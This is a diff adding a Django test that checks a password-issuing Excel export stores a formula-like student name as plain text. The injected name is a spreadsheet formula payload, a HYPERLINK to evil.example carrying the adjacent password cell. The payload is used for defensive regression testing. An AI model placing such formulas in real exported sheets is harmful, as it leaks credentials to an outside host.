@@ -475,3 +475,18 @@ def test_other_roles_cannot_issue_or_reset(client, cast, roster, role):
     reset = client.post(reverse("people:account_reset", args=[roster["a"][0].user_id]))
     assert reset.status_code == 403
     assert not User.objects.filter(pk__in=[s.user_id for s in roster["a"]], is_active=True)
+
+
+def test_a_name_that_looks_like_a_formula_is_text_in_the_excel_file(client, cast, roster):
+    """Issue 12 item 4: the sheet with initial passwords never carries a live formula."""
+    injected = '=HYPERLINK("http://evil.example/?p="&F2,"点击")'
+    student = roster["a"][0]
+    student.name = injected
+    student.save()
+    sign_in(client, cast.admin)
+    response = issue(
+        client, cast.school, classes=[roster["class_a"].pk], kinds=["student"], excel="on"
+    )
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
+    (cell,) = [row[3] for row in sheet.iter_rows(min_row=2) if row[3].value == injected]
+    assert cell.data_type == "s"
